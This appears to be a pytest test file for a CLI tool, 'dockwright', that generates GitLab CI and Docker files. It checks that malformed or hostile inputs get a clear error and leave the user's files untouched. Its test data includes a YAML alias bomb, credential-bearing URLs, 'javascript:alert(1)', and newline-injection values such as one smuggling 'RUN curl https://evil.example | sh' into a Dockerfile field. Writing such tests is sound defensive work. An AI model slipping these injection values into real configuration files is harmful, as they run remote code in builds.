"""Bad inputs (issue 19): each is one sentence, the documented exit code, no traceback, no raw HTML, no token in
the output, and every file of the user's exactly as it was (same bytes, same links, same modes, nothing added:
no temp file, no half write; the git HEAD unmoved).

One table, :data:`CASES`, one line a case::

    Case(name, files, argv, code, phrase)             files and arguments (the data-loss and blow-up items)
    S(name, answers, env, command, code, phrase)      an answers file, the environment and a command line,
                                                      against the module's sandbox GitLab (secrets, URLs, fields)

- ``files``: what to set up under the test's folder, ``{path: content}``. ``proj/`` already holds a small git
  project (``app.py``, ``requirements.txt``, committed) and ``proj/dockwright.yml`` = :data:`ANSWERS`; a case's
  entry replaces or adds to them. A content is ``str``/``bytes`` (a regular file), ``Link(target)``, ``FIFO``,
  ``DIR``, ``Mode(content, 0o555)`` (a file or, with ``DIR``, a folder with these permissions) or ``None``
  (remove the default file);
- ``argv``/``command``: the dockwright command;
- ``code``: the exit code (wizard/errors.py); ``phrase``: a piece of the expected sentence (stdout or stderr).

Placeholders, in arguments, environment values and answers files: {root} the test's folder, {proj} the
project, {file} a file of the project, {url} the sandbox, {token} its token, {web} a web server that is not
GitLab, {tls_plain} the sandbox's port spoken to with https://, {big} a 100 kB token.

A case runs in this process, or in a child (`python -m dockwright`, no terminal on stdin) when it sets an
environment, uses the sandbox, a FIFO or permissions. Permissions are real: as root, a case with ``Mode`` runs
in a child without CAP_DAC_OVERRIDE, so root too is refused a read-only folder. A FIFO case runs in a child
too, so that a regression blocks a child (and fails the test), never the whole run. No test writes to a real
device: the special files are FIFOs and links.
"""

from __future__ import annotations

import ctypes
import http.server
import os
import re
import shlex
import stat
import subprocess
import sys
import threading
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from dockwright.wizard.cli import main
from dockwright.wizard.errors import EXIT_BAD_INPUT, EXIT_REFUSED_OVERWRITE, RefusedOverwrite
from dockwright.wizard.secret_text import TOKEN_RE, looks_like_token

ANSWERS = """\
version: 1
gitlab: {url: https://gitlab.example.com, project: team/app}
executor: docker-socket
registry: {kind: dockerhub, image: me/app}
"""
PROJECT = {"proj/app.py": "print('hi')\n", "proj/requirements.txt": "flask==3.1.0\n", "proj/dockwright.yml": ANSWERS}


@dataclass(frozen=True)
class Link:
    target: str


@dataclass(frozen=True)
class Mode:
    content: Content
    mode: int


class _Special(str):
    pass


FIFO = _Special("fifo")
DIR = _Special("dir")
Content = str | bytes | Link | Mode | None


@dataclass(frozen=True)
class Case:
    name: str
    files: dict[str, Content]
    argv: tuple[str, ...]
    code: int
    phrase: str
    env: dict[str, str] = field(default_factory=dict)
    gitlab: bool = False  # needs the sandbox (and the web server that is not GitLab): placeholders {url} ...


GEN = ("generate", "--answers", "{proj}/dockwright.yml")
RUNNER = (*GEN, "--runner-config", "{proj}/config.toml")
ANSWERS_AT = lambda path: ("generate", "--answers", path)  # noqa: E731
APPLY_DRY = lambda path: ("apply", "--answers", path, "--dry-run")  # noqa: E731
CI = "proj/.gitlab-ci.yml"
JOB = "test:\n  script: [pytest]\n"
BOMB = ('a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
        + "".join(f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(9)))
DEEP = "x: " + "[" * 10_000 + "]" * 10_000 + "\n"
RUNNER_ENTRY = '[[runners]]\nname = "My Docker Runner"\nurl = "https://gitlab.example.com"\n'
B, R = EXIT_BAD_INPUT, EXIT_REFUSED_OVERWRITE


# -- answers files against the sandbox (S cases) ------------------------------------------------------------------
OK = "gitlab:\n  url: '{url}'\n  project: demo/app\nrunner:\n  config_path: runner/config.toml\n"  # + runner keys
NO_URL = OK.replace("  url: '{url}'\n", "")


def with_(extra: str) -> str:
    """The sound answers file plus ``extra``: another top-level section."""
    return OK + extra


APPLY = "apply --answers dockwright.yml --yes --no-watch"
GENERATE = "generate --answers dockwright.yml --dry-run"
FAKE = "glpat-Fake0Token0For0Tests1"  # token-shaped, never valid anywhere


def S(name: str, answers: str, env: dict[str, str], command: str, code: int, phrase: str) -> Case:
    """A case given as an answers file (``{{``/``}}`` stand for braces), the environment and a command line."""
    text = answers.replace("{{", "{").replace("}}", "}")
    return Case(name, {"proj/dockwright.yml": text}, tuple(shlex.split(command)), code, phrase, env, gitlab=True)


CASES: list[Case] = [
    # the answers file itself
    Case("answers-empty-path", {}, ANSWERS_AT(""), B, "names no file"),
    Case("answers-is-a-folder", {"proj/answers": DIR}, ANSWERS_AT("{proj}/answers"), B, "is a folder"),
    Case("answers-is-a-fifo", {"proj/answers.yml": FIFO}, ANSWERS_AT("{proj}/answers.yml"), B, "named pipe"),
    Case("answers-link-loop", {"proj/a.yml": Link("b.yml"), "proj/b.yml": Link("a.yml")}, ANSWERS_AT("{proj}/a.yml"), B, "loops back on itself"),
    Case("answers-dangling-link", {"proj/a.yml": Link("gone.yml")}, ANSWERS_AT("{proj}/a.yml"), B, "which does not exist"),
    Case("answers-under-a-file", {}, ANSWERS_AT("{proj}/app.py/dockwright.yml"), B, "is a file, not a folder"),
    Case("answers-unreadable", {"proj/dockwright.yml": Mode(ANSWERS, 0o000)}, GEN, B, "permission denied"),
    Case("answers-not-utf8", {"proj/dockwright.yml": b"version: 1\n# caf\xe9\n"}, GEN, B, "not UTF-8 text (byte 0xe9 on line 2)"),
    Case("answers-utf16", {"proj/dockwright.yml": ANSWERS.encode("utf-16")}, GEN, B, "UTF-16"),
    Case("answers-too-big", {"proj/dockwright.yml": ANSWERS + "#" * (300 * 1024) + "\n"}, GEN, B, "larger than 256 KiB"),
    Case("answers-alias-bomb", {"proj/dockwright.yml": BOMB}, GEN, B, "expands to more than"),
    Case("answers-deep-brackets", {"proj/dockwright.yml": DEEP}, GEN, B, "nests deeper than 100 levels"),
    Case("apply-answers-folder", {"proj/answers": DIR}, APPLY_DRY("{proj}/answers"), B, "is a folder"),
    Case("apply-answers-fifo", {"proj/answers.yml": FIFO}, APPLY_DRY("{proj}/answers.yml"), B, "named pipe"),
    # .gitlab-ci.yml
    Case("ci-stray-begin-marker", {CI: "# >>> dockwright jobs\n" + JOB}, GEN, R, "line 1 starts dockwright's jobs"),
    Case("ci-stray-end-marker", {CI: JOB + "# <<< dockwright jobs\n"}, GEN, R, "line 3 ends dockwright's jobs"),
    Case("ci-user-job-inside-markers", {CI: "# >>> dockwright jobs\nmine:\n  script: [a]\n# <<< dockwright jobs\n"}, GEN, R, "line 2 (`mine:`) is between dockwright's markers"),
    Case("ci-own-job-outside-markers", {CI: JOB + "dockwright-build:\n  script: [a]\n"}, GEN, R, "line 3 has the job dockwright-build outside"),
    Case("ci-not-utf8", {CI: b"test:\n  script: [\xff]\n"}, GEN, R, "not UTF-8 text (byte 0xff on line 2)"),
    Case("ci-utf16", {CI: JOB.encode("utf-16")}, GEN, R, "UTF-16"),
    Case("ci-alias-bomb", {CI: BOMB + JOB}, GEN, R, "expands to more than"),
    Case("ci-deep-brackets", {CI: DEEP}, GEN, R, "nests deeper than 100 levels"),
    Case("ci-too-big", {CI: JOB + "#" * (1024 * 1024) + "\n"}, GEN, R, "larger than 1024 KiB"),
    Case("ci-is-a-folder", {"proj/.gitlab-ci.yml": DIR}, GEN, R, "is a folder, not a regular file"),
    Case("ci-is-a-fifo", {CI: FIFO}, GEN, R, "named pipe (FIFO), not a regular file"),
    Case("ci-link-to-a-folder", {"proj/ci": DIR, CI: Link("ci")}, GEN, R, "is a folder"),
    Case("ci-link-leaves-project", {"shared/ci.yml": JOB, CI: Link("../shared/ci.yml")}, GEN, R, "outside the project"),
    Case("ci-dangling-link", {CI: Link("nowhere.yml")}, GEN, R, "which does not exist"),
    Case("ci-flow-top-level", {CI: "{test: {script: [pytest]}}\n"}, GEN, R, "written as one {...} mapping"),
    Case("ci-two-documents", {CI: "spec: {}\n---\n" + JOB}, GEN, R, "more than one YAML document (line 2)"),
    Case("ci-job-without-script", {CI: "test:\n  stage: test\n"}, GEN, B, "GitLab would refuse the result"),
    Case("ci-duplicate-jobs", {CI: JOB + JOB}, GEN, B, "GitLab would refuse the result"),
    Case("answers-blank-stages", {"proj/dockwright.yml": ANSWERS + "pipeline: {stages: ['', ' ']}\n"}, GEN, B, "GitLab would refuse the result"),
    Case("dry-run-blank-stages", {"proj/dockwright.yml": ANSWERS + "pipeline: {stages: ['', ' ']}\n"}, (*GEN, "--dry-run"), B, "GitLab would refuse the result"),
    # Dockerfile and .dockerignore
    Case("dockerfile-is-a-folder", {"proj/Dockerfile": DIR}, GEN, R, "is a folder"),
    Case("dockerfile-not-utf8", {"proj/Dockerfile": b"FROM python:3.13\n# \xe9t\xe9\n"}, GEN, R, "not UTF-8"),
    Case("dockerignore-not-utf8", {"proj/.dockerignore": b".git\n\xfe\n"}, GEN, R, "not UTF-8"),
    Case("dockerignore-link-loop", {"proj/.dockerignore": Link(".dockerignore")}, GEN, R, "loops back on itself"),
    Case("dockerignore-fifo", {"proj/.dockerignore": FIFO}, GEN, R, "named pipe"),
    # the runner's config.toml
    Case("runner-config-is-a-folder", {"proj/config.toml": DIR}, RUNNER, R, "is a folder"),
    Case("runner-config-is-a-fifo", {"proj/config.toml": FIFO}, RUNNER, R, "named pipe"),
    Case("runner-config-under-a-file", {}, (*GEN, "--runner-config", "{proj}/app.py/config.toml"), B, "is a file, not a folder"),
    Case("runner-config-empty-path", {}, (*GEN, "--runner-config", ""), B, "names no file"),
    Case("runner-config-utf16", {"proj/config.toml": "concurrent = 1\n".encode("utf-16")}, RUNNER, R, "UTF-16"),
    Case("runner-config-runners-table", {"proj/config.toml": "[runners]\nname = 'x'\n"}, RUNNER, R, "not a list of [[runners]] tables"),
    Case("runner-config-docker-string", {"proj/config.toml": RUNNER_ENTRY + 'docker = "x"\n'}, RUNNER, R, 'has `docker = "x"`, which is not a table'),
    Case("runner-config-volumes-string", {"proj/config.toml": RUNNER_ENTRY + '[runners.docker]\nvolumes = "/c"\n'}, RUNNER, R, 'volumes = "/c"` is not a list'),
    Case("runner-config-deep", {"proj/config.toml": "a = " + "[" * 10_000 + "]" * 10_000 + "\n"}, RUNNER, R, "cannot be merged"),
    # folders dockwright may not write in: checked before the first file is written
    Case("runner-folder-read-only", {"ro": Mode(DIR, 0o555)}, (*GEN, "--runner-config", "{root}/ro/config.toml"), B, "may not create files in"),
    Case("project-folder-read-only", {"proj/dockwright.yml": ANSWERS, "proj": Mode(DIR, 0o555)}, GEN, B, "may not create files in"),
    Case("dir-is-a-file", {}, (*GEN, "--dir", "{proj}/app.py"), B, "app.py is not a folder"),
    # 11: a token that cannot be one is refused before it reaches a header
    S("token-line-break", OK, {"GITLAB_TOKEN": "{token}\nx"}, APPLY, 2, "has a line break in it"),
    S("token-cr-in-middle", OK, {"GITLAB_TOKEN": "glpat-ab\rcdefgh12345"}, APPLY, 2, "has a line break in it"),
    S("token-not-latin1", OK, {"GITLAB_TOKEN": "{token}\u2019"}, APPLY, 2, "not plain ASCII"),
    S("token-latin1-accent", OK, {"GITLAB_TOKEN": "{token}\u00e9"}, APPLY, 2, "not plain ASCII"),
    S("token-space-inside", OK, {"GITLAB_TOKEN": "glpat-abc def12345678"}, APPLY, 2, "has a space in it"),
    S("token-env-line-break", OK, {"MY_TOKEN": "{token}\nx"}, APPLY + " --token-env MY_TOKEN", 2, "from the MY_TOKEN environment variable (--token-env) has a line break"),
    S("token-100kB", OK, {"GITLAB_TOKEN": "{big}"}, APPLY, 2, "characters long"),
    # 12: credentials in a URL, wherever it comes from
    S("url-userinfo-answers", OK.replace("{url}", "http://user:{token}@127.0.0.1:1"), {}, GENERATE, 2, "has a user name or password in it"),
    S("url-userinfo-apply", OK.replace("{url}", "http://user:{token}@127.0.0.1:1"), {"GITLAB_TOKEN": "{token}"}, APPLY, 2, "has a user name or password in it"),
    S("url-userinfo-flag", OK, {"GITLAB_TOKEN": "{token}"}, APPLY + " --url http://oauth2:{token}@127.0.0.1:1", 2, "has a user name or password in it"),
    S("url-user-only-flag", OK, {"GITLAB_TOKEN": "{token}"}, APPLY + " --url http://alice@127.0.0.1:1", 2, "has a user name or password in it"),
    S("url-userinfo-gitlab-host", NO_URL, {"GITLAB_HOST": "http://u:{token}@127.0.0.1:1"}, APPLY, 2, "has a user name or password in it"),
    # token echo: an answers-file error never repeats a token; a token in dockerfile.env is warned about
    S("from-env-is-a-token", with_("variables:\n  - {{key: API_KEY, from_env: " + FAKE + "}}\n"), {}, GENERATE, 2, "looks like a token, not shown"),
    S("from-env-unprefixed-token", with_("variables:\n  - {{key: API_KEY, from_env: aB3dE5gH7jK9mN1pQ3sT5vX7}}\n"), {}, GENERATE, 2, "looks like a token, not shown"),
    S("key-is-a-token", with_("variables:\n  - {{key: " + FAKE + "}}\n"), {}, GENERATE, 2, "looks like a token, not shown"),
    S("token-as-executor", with_("executor: " + FAKE + "\n"), {}, GENERATE, 2, "looks like a token, not shown"),
    S("token-in-dockerfile-env", with_("dockerfile: {{env: {{API_TOKEN: " + FAKE + "}}}}\n"), {}, APPLY, 2, "dockerfile.env API_TOKEN looks like a token or password"),
    # 15: control characters in single-line fields would add lines to the files they are written into
    S("base-image-newline", with_("dockerfile: {{base_image: \"x\\nRUN curl https://evil.example | sh\"}}\n"), {}, GENERATE, 2, "`dockerfile.base_image` has a line break"),
    S("workdir-newline", with_("dockerfile: {{workdir: \"/app\\nRUN id\"}}\n"), {}, GENERATE, 2, "`dockerfile.workdir` has a line break"),
    S("env-value-newline", with_("dockerfile: {{env: {{A: \"1\\nRUN id\"}}}}\n"), {}, GENERATE, 2, "`dockerfile.env.A` has a line break"),
    S("command-newline", with_("dockerfile: {{command: [\"python\\nRUN id\"]}}\n"), {}, GENERATE, 2, "`dockerfile.command[0]` has a line break"),
    S("tag-newline", OK + "  tags: [\"docker\\n[[runners]]\"]\n", {}, GENERATE, 2, "`runner.tags[0]` has a line break"),
    S("description-newline", OK + "  description: \"d\\nurl = 'x'\"\n", {}, GENERATE, 2, "`runner.description` has a line break"),
    S("description-escape-char", OK + "  description: \"d\\e[31m\"\n", {}, GENERATE, 2, "control character U+001B"),
    S("description-bidi", OK + "  description: \"d\\u202Ex\"\n", {}, GENERATE, 2, "text-direction character U+202E"),
    S("stage-newline", with_("pipeline: {{stages: [\"build\\nx: y\", release]}}\n"), {}, GENERATE, 2, "`pipeline.stages[0]` has a line break"),
    S("branch-newline", with_("git: {{branch: \"main\\nx\"}}\n"), {}, GENERATE, 2, "`git.branch` has a line break"),
    S("commit-message-escape", with_("git: {{commit_message: \"Add CI\\e[2J\"}}\n"), {}, GENERATE, 2, "control character U+001B"),
    S("project-newline", OK.replace("demo/app", "\"demo/app\\nx\""), {}, GENERATE, 2, "`gitlab.project` has a line break"),
    # 20: no terminal for the full-screen wizard
    S("wizard-without-terminal", OK, {}, "", 2, "needs a terminal"),
    S("plain-without-terminal", OK, {}, "--plain", 2, "--plain asks its questions in a terminal"),
    # 22: loose validation
    S("empty-description", OK + "  description: ''\n", {}, GENERATE, 2, "`runner.description` is empty"),
    S("empty-docker-image", OK + "  docker_image: ''\n", {}, GENERATE, 2, "`runner.docker_image` is empty"),
    S("empty-base-image", with_("dockerfile: {{base_image: ''}}\n"), {}, GENERATE, 2, "`dockerfile.base_image` is empty"),
    S("empty-environment-scope", with_("variables:\n  - {{key: A, environment_scope: ''}}\n"), {}, GENERATE, 2, "`variables[0].environment_scope` is empty"),
    S("runner-timeout-negative", OK, {}, APPLY + " --runner-timeout -1", 2, "is not a number of seconds"),
    S("runner-timeout-nan", OK, {}, APPLY + " --runner-timeout nan", 2, "is not a number of seconds"),
    S("token-env-not-a-name", OK, {}, APPLY + " --token-env NOT=VALID", 2, "is not one (letters, digits and _"),
    S("url-space", OK, {"GITLAB_TOKEN": "{token}"}, APPLY + " --url 'http://127.0.0.1 :80'", 2, "has a space in it"),
    S("url-tab", OK, {"GITLAB_TOKEN": "{token}"}, APPLY + " --url 'http://127.0.0.1\t:80'", 2, "has a tab in it"),
    S("url-javascript", OK, {"GITLAB_TOKEN": "{token}"}, APPLY + " --url javascript:alert(1)", 2, "does not start with https://"),
    S("url-backslashes", OK, {"GITLAB_TOKEN": "{token}"}, APPLY + " --url 'http:\\\\gitlab.example.com'", 2, "has a backslash in it"),
    S("url-fullwidth-port", OK, {"GITLAB_TOKEN": "{token}"}, APPLY + " --url http://127.0.0.1:\uff18\uff10", 2, "port that is not a number written with the digits 0-9"),
    S("url-unclosed-ipv6", OK, {"GITLAB_TOKEN": "{token}"}, APPLY + " --url http://[::1", 2, "needs its closing ]"),
    S("url-port-too-big", OK, {"GITLAB_TOKEN": "{token}"}, APPLY + " --url http://127.0.0.1:99999", 2, "ports go from 1 to 65535"),
    S("url-api-path", OK, {"GITLAB_TOKEN": "{token}"}, APPLY + " --url {url}/api/v4", 2, "ends with GitLab's API path"),
    S("url-ftp-in-answers", OK.replace("{url}", "ftp://127.0.0.1"), {}, GENERATE, 2, "starts with ftp://"),
    S("sandbox-job-seconds", OK, {}, "sandbox --job-seconds -5", 2, "is not a number of seconds"),
    S("sandbox-port", OK, {}, "sandbox --port 70000", 2, "is not a port"),
    S("sandbox-data-dir-file", OK, {}, "sandbox --data-dir {file}", 2, "is a file"),
    S("sandbox-data-dir-in-file", OK, {}, "sandbox --data-dir {file}/state", 2, "is a file"),
    # 23: the right sentence for what really happened
    S("url-not-gitlab", OK, {"GITLAB_TOKEN": "{token}"}, APPLY + " --url {web}", 2, "does not answer like GitLab's API"),
    S("https-to-plain-http", OK, {"GITLAB_TOKEN": "{token}"}, APPLY + " --url {tls_plain}", 5, "answered in plain HTTP"),
    # 24: an answers file without answers is said to be one
    S("answers-empty", "", {}, GENERATE, 0, "holds no answers"),
    S("answers-comments-only", "# nothing yet\n# still nothing\n", {}, GENERATE, 0, "holds no answers"),
    S("answers-null", "null\n", {}, GENERATE, 0, "holds no answers"),
]

assert len({c.name for c in CASES}) == len(CASES), "case ids are unique"


# ------------------------------------------------------------------------------------------- helpers

def make(root: Path, files: dict[str, Content], fill=lambda text: text) -> None:
    """Lay out ``PROJECT`` overridden by ``files`` under ``root``, ``proj/`` a git project with its app committed
    (modes last, so read-only folders get filled); ``fill`` puts the placeholders' values into text contents."""
    spec = {**PROJECT, **files}
    modes: list[tuple[Path, int]] = []
    for rel, content in spec.items():
        path = root / rel
        if isinstance(content, Mode):
            modes.append((path, content.mode))
            content = content.content
        path.parent.mkdir(parents=True, exist_ok=True)
        if content is None:
            continue
        if content is DIR:
            path.mkdir(exist_ok=True)
        elif content is FIFO:
            os.mkfifo(path)
        elif isinstance(content, Link):
            path.symlink_to(content.target)
        elif isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_bytes(fill(content).encode())
    app = [name for name in ("app.py", "requirements.txt") if (root / "proj" / name).is_file()]
    for args in (["init", "-q", "-b", "main"], ["add", "--", *app], ["commit", "-q", "--allow-empty", "-m", "app"]):
        subprocess.run(["git", *args], cwd=root / "proj", check=True, capture_output=True)
    for path, mode in modes:
        path.chmod(mode)


def snapshot(root: Path) -> dict[str, tuple]:
    """Every path under ``root`` with its kind and content (bytes, link target) and permission bits."""
    out: dict[str, tuple] = {}
    for folder, dirs, names in os.walk(root):
        if ".git" in dirs:  # git's own files change on a read (the index's stat cache): HEAD stands for them
            dirs.remove(".git")
            head = subprocess.run(["git", "rev-parse", "HEAD"], cwd=folder, capture_output=True, text=True).stdout
            out[str(Path(folder, ".git").relative_to(root))] = ("HEAD", head)
        for name in dirs + names:
            path = Path(folder, name)
            st = path.lstat()
            mode = stat.S_IMODE(st.st_mode)
            if stat.S_ISLNK(st.st_mode):
                out[str(path.relative_to(root))] = ("link", os.readlink(path))
            elif stat.S_ISREG(st.st_mode):
                try:
                    data = path.read_bytes()
                except PermissionError:  # an unreadable file of the case: its size stands for its bytes
                    data = st.st_size
                out[str(path.relative_to(root))] = ("file", data, mode)
            else:
                out[str(path.relative_to(root))] = (stat.S_IFMT(st.st_mode), mode)
    return out


def _drop_root_powers() -> None:
    """In the child, before exec: without CAP_DAC_OVERRIDE/CAP_DAC_READ_SEARCH root obeys permission bits."""
    libc = ctypes.CDLL(None, use_errno=True)
    for cap in (1, 2):
        if libc.prctl(24, cap, 0, 0, 0) != 0:  # PR_CAPBSET_DROP
            raise OSError(ctypes.get_errno(), "prctl(PR_CAPBSET_DROP)")


def _needs_child(case: Case) -> bool:
    return bool(case.env) or case.gitlab or any(c is FIFO or isinstance(c, Mode) for c in case.files.values())


def run_dockwright(argv: list[str], *, child: bool, cwd: Path, env: dict[str, str],
                   capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    """Run dockwright with ``argv``: in this process, or in a child (``child``: `python -m dockwright`, the
    installed command, with ``env`` added and no terminal) without root's powers over permissions. Returns
    (exit code, stdout and stderr)."""
    if not child:
        code = main(argv)
        said = capsys.readouterr()
        return code, said.out + said.err
    child_env = {k: v for k, v in os.environ.items() if k not in ("GITLAB_TOKEN", "GITLAB_HOST", "CI_SERVER_URL")}
    proc = subprocess.run(
        [sys.executable, "-m", "dockwright", *argv], capture_output=True, text=True, cwd=cwd,
        env={**child_env, **env}, stdin=subprocess.DEVNULL, timeout=300, check=False,
        preexec_fn=_drop_root_powers if os.geteuid() == 0 else None,
    )
    return proc.returncode, proc.stdout + proc.stderr


def _fix_modes(root: Path) -> None:
    for folder, dirs, names in os.walk(root):
        for name in dirs + names:
            path = Path(folder, name)
            if not path.is_symlink():
                path.chmod(0o755 if path.is_dir() else 0o644)


class _NotGitLab(http.server.BaseHTTPRequestHandler):
    """A web server that is not GitLab: a web page for every path (404 under /api like many servers)."""

    def _page(self) -> None:
        body = (b"<!DOCTYPE html>\n<html>\n<head><title>Not here</title></head>\n<body>\n<h1>404</h1>\n"
                b"<p>Nothing matches the given URI.</p>\n</body>\n</html>\n")
        self.send_response(404)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = do_PUT = _page

    def log_message(self, *args) -> None:
        pass


@pytest.fixture(scope="module")
def web():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _NotGitLab)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def _filler(facts: dict[str, str]):
    def fill(text: str) -> str:
        for key, value in facts.items():
            text = text.replace("{" + key + "}", value)
        return text

    return fill


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_bad_input_is_a_sentence_and_changes_nothing(case: Case, tmp_path: Path, capsys, request) -> None:
    root = tmp_path / "case"
    facts = {"root": str(root), "proj": str(root / "proj"), "file": str(root / "proj" / "app.py"),
             "big": "glpat-" + "a" * 100_000}
    if case.gitlab:
        sb, web = request.getfixturevalue("sb"), request.getfixturevalue("web")
        facts.update(url=sb.url, token=sb.token, web=web, tls_plain=sb.url.replace("http://", "https://"))
    fill = _filler(facts)
    make(root, case.files, fill)
    before = snapshot(root)
    argv = [fill(a) for a in case.argv]
    env = {k: fill(v) for k, v in case.env.items()}
    try:
        code, said = run_dockwright(argv, child=_needs_child(case), cwd=root / "proj", env=env, capsys=capsys)
        after = snapshot(root)
    finally:
        _fix_modes(root)  # so pytest can clean up
    assert "Traceback" not in said and "<html" not in said.lower(), said
    assert case.phrase in " ".join(said.split()), said
    assert code == case.code, said
    assert after == before, "the user's files changed"
    given = " ".join([*(c for c in case.files.values() if isinstance(c, str)), *env.values(), *argv])
    secrets = {*TOKEN_RE.findall(given), *(w for w in re.findall(r"[\w.+/=-]{20,}", given) if looks_like_token(w))}
    if case.gitlab:
        secrets.add(facts["token"])
    for secret in secrets:
        assert secret not in said, f"a token reached the output: {said}"


# ------------------------------------------------------------------------------------------------------
# The data-loss items whose right answer is a written file: one test each.

def _generate(root: Path, capsys, *extra: str) -> tuple[int, str]:
    code = main(["generate", "--answers", str(root / "proj/dockwright.yml"), *extra])
    return code, capsys.readouterr().err


def test_a_users_job_named_like_dockwrights_is_kept(tmp_path, capsys) -> None:
    """Issue 19.1: `dockwright-deploy:` is the user's; only dockwright-build and dockwright-release are ours."""
    mine = "# deploy it\ndockwright-deploy:\n  stage: deploy\n  script: [./deploy.sh]\n\n# tests\n" + JOB
    make(tmp_path, {CI: mine})
    for _ in range(2):
        assert _generate(tmp_path, capsys)[0] == 0
        text = (tmp_path / CI).read_text()
        assert mine in text and text.count("\ndockwright-build:") == 1


def test_links_are_written_through_and_stay_links(tmp_path, capsys) -> None:
    """Issue 19.3: a symlinked .gitlab-ci.yml, .dockerignore or config.toml in the project keeps its link."""
    make(tmp_path, {"proj/ci/pipeline.yml": JOB, CI: Link("ci/pipeline.yml"),
                    "proj/conf/dockerignore": "*.log\n", "proj/.dockerignore": Link("conf/dockerignore"),
                    "proj/runner/config.toml": "concurrent = 2\n", "proj/config.toml": Link("runner/config.toml")})
    code, err = _generate(tmp_path, capsys, "--runner-config", str(tmp_path / "proj/config.toml"))
    assert code == 0, err
    proj = tmp_path / "proj"
    assert os.readlink(proj / ".gitlab-ci.yml") == "ci/pipeline.yml"
    assert os.readlink(proj / ".dockerignore") == "conf/dockerignore"
    assert os.readlink(proj / "config.toml") == "runner/config.toml"
    assert "dockwright-build:" in (proj / "ci/pipeline.yml").read_text() and JOB in (proj / "ci/pipeline.yml").read_text()
    assert (proj / "conf/dockerignore").read_text().startswith("*.log\n") and ".git" in (proj / "conf/dockerignore").read_text()
    config = proj / "runner/config.toml"
    assert "[[runners]]" in config.read_text() and stat.S_IMODE(config.stat().st_mode) == 0o600


def test_crlf_and_flow_stages_keep_the_users_bytes(tmp_path, capsys) -> None:
    """Issue 19.5: CRLF stays CRLF; a flow-style stages list gains its stages in place (build before deploy);
    indentation, comment spacing and an unused anchor are kept byte for byte."""
    from dockwright.wizard.checks import check_pipeline

    user = ("# my pipeline\r\nstages: [test, deploy]   # keep this spacing\r\n\r\n.unused: &unused\r\n"
            "    image: alpine\r\n\r\ntest:\r\n    stage: test\r\n    script:\r\n        - pytest    # four\r\n"
            "deploy:\r\n    stage: deploy\r\n    script: [./ship.sh]\r\n")
    make(tmp_path, {CI: user.encode()})
    assert _generate(tmp_path, capsys)[0] == 0
    out = (tmp_path / CI).read_bytes().decode()
    assert "\n" not in out.replace("\r\n", "") and "\r" not in out.replace("\r\n", "")
    assert user.replace("[test, deploy]", "[test, build, release, deploy]") in out
    assert [f for f in check_pipeline(out) if f.level == "error"] == []
    assert _generate(tmp_path, capsys)[0] == 0
    assert (tmp_path / CI).read_bytes().decode() == out


def test_a_byte_order_mark_stays_first(tmp_path, capsys) -> None:
    """Issue 19.6: the BOM stays in front of dockwright's header, so the first key is `include`, not `\\ufeffinclude`."""
    from ruamel.yaml import YAML

    body = "include:\n  - local: extra.yml\n" + JOB
    make(tmp_path, {CI: "\ufeff" + body})
    code, err = _generate(tmp_path, capsys)
    assert code == 0, err
    data = (tmp_path / CI).read_bytes()
    assert data.startswith(b"\xef\xbb\xbf# .gitlab-ci.yml: generated by dockwright") and data.count(b"\xef\xbb\xbf") == 1
    text = data.decode()
    assert body in text and "include" in YAML(typ="safe").load(text)


def test_a_linked_answers_file_writes_next_to_the_link(tmp_path, capsys) -> None:
    """Issue 19.7: proj/dockwright.yml -> ../shared/dockwright.yml writes into proj/, not shared/."""
    make(tmp_path, {"shared/dockwright.yml": ANSWERS, "proj/dockwright.yml": Link("../shared/dockwright.yml")})
    assert _generate(tmp_path, capsys)[0] == 0
    assert (tmp_path / "proj/Dockerfile").is_file() and (tmp_path / "proj/.gitlab-ci.yml").is_file()
    assert sorted(p.name for p in (tmp_path / "shared").iterdir()) == ["dockwright.yml"]


def test_all_or_nothing_when_a_target_turns_bad_after_planning(tmp_path) -> None:
    """Issue 19.8: when the last file cannot be written, the first ones are not written either (no temp files)."""
    from dockwright.wizard.answers_file import load_answers
    from dockwright.wizard.changes import apply_file_changes, plan_file_changes

    make(tmp_path, {})
    proj = tmp_path / "proj"
    changes = plan_file_changes(load_answers(proj / "dockwright.yml"), proj)
    assert [c.path.name for c in changes][-1] == ".gitlab-ci.yml"
    (proj / ".gitlab-ci.yml").mkdir()  # turns bad between planning and writing
    before = snapshot(tmp_path)
    with pytest.raises(RefusedOverwrite, match="is a folder"):
        apply_file_changes(changes)
    assert snapshot(tmp_path) == before


def test_a_folder_named_dockerfile_orig_gets_a_numbered_backup(tmp_path, capsys) -> None:
    """Issue 19.21: the backup of a replaced Dockerfile goes to Dockerfile.orig.1 when Dockerfile.orig is a folder."""
    make(tmp_path, {"proj/Dockerfile": "FROM node:22\n", "proj/Dockerfile.orig": DIR})
    assert _generate(tmp_path, capsys, "--overwrite")[0] == 0
    proj = tmp_path / "proj"
    assert (proj / "Dockerfile.orig").is_dir() and (proj / "Dockerfile.orig.1").read_text() == "FROM node:22\n"


def test_write_atomic_never_replaces_a_folder_or_a_fifo(tmp_path) -> None:
    """runner.config_path: "" resolves to the project folder, --runner-config may name a FIFO: both are refused
    by the writer itself, whoever calls it (apply's runner step too)."""
    from dockwright.wizard.apply_changes import resolve_config_path
    from dockwright.wizard.files import write_atomic
    from dockwright.wizard.plan import Plan, replace_in

    folder = resolve_config_path(replace_in(Plan(), "runner", config_path=""), tmp_path)
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    before = snapshot(tmp_path)
    with pytest.raises(RefusedOverwrite, match="is a folder"):
        write_atomic(folder, "concurrent = 1\n", mode=0o600)
    with pytest.raises(RefusedOverwrite, match="named pipe"):
        write_atomic(fifo, "concurrent = 1\n", mode=0o600)
    assert snapshot(tmp_path) == before


def test_runners_as_a_single_table_is_a_sentence_in_apply_too() -> None:
    """Issue 19.21: apply's runner step read `[runners]` (one table) key by key and died of an AttributeError."""
